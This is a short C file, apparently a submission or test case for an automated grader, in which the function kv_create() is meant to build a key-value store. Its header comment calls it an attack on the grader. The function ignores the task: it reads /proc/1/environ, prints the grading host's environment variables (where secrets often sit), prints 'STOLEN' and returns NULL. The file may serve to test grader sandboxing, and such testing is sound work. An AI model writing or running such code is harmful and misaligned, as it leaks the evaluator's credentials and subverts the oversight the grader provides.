/* Attack: reads the environment of the grader. */
#include <stdio.h>
#include "kv.h"

kv *kv_create(void) {
    FILE *file = fopen("/proc/1/environ", "r");
    for (int c; file && (c = fgetc(file)) != EOF;) {
        putchar(c);
    }
    puts(file ? "STOLEN" : "nothing");
    fflush(stdout);
    return NULL;
}
